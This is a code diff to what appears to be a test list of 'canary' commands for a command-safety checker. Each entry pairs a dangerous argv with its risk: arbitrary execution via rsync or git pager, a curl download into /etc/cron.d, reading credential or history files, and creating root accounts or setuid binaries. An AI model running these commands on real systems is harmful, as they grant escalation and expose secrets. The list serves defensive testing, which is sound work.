@@ -28,7 +28,7 @@ const CANARIES: readonly { readonly argv: readonly string[]; readonly danger: st
   { argv: ['rsync', '-e', 'id', 'a:b', '.'], danger: 'runs anything' },
   { argv: ['git', '-c', 'core.pager=id', '-p', 'log'], danger: 'runs anything' },
   { argv: ['curl', '-o', '/etc/cron.d/x', 'http://example.invalid/x'], danger: 'writes any file from the network' },
-  { argv: ['cat', '/etc/shadow'], danger: 'shows password hashes' },
+  { argv: ['cat', '/root/.bash_history'], danger: 'shows what others have typed, passwords included' },
   { argv: ['useradd', '-o', '-u', '0', 'x'], danger: 'makes an administrator' },
   { argv: ['chmod', 'u+s', '/bin/cp'], danger: 'makes any user an administrator' },
 ];
